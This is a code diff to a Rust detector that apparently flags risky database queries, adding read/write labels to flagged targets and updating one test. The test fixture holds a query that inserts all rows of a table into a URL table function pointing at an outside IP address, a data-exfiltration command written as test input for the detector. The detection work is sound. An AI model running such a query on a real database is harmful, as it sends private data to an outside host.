@@ -68,9 +68,10 @@ pub(crate) fn observe(obs: &Observation<'_, '_>, groups: &mut Groups) {
             },
         };
         severity = severity.max(s);
+        let direction = if insert { "write" } else { "read" };
         targets.push(match dest {
-            Some(d) => format!("{name} → {d}"),
-            None => name.clone(),
+            Some(d) => format!("{name} → {d} ({direction})"),
+            None => format!("{name} ({direction})"),
         });
     }
     let v = obs.event.volume;
@@ -167,7 +168,7 @@ mod tests {
         let e = event("alice", "10.0.0.2", "INSERT INTO FUNCTION url('http://203.0.113.9:8000/x', 'TSV', 'a String') SELECT * FROM t", 0);
         assert_eq!(
             finding(e),
-            Some((Severity::Critical, vec!["url → 203.0.113.9".to_owned()]))
+            Some((Severity::Critical, vec!["url → 203.0.113.9 (write)".to_owned()]))
         );
     }
 
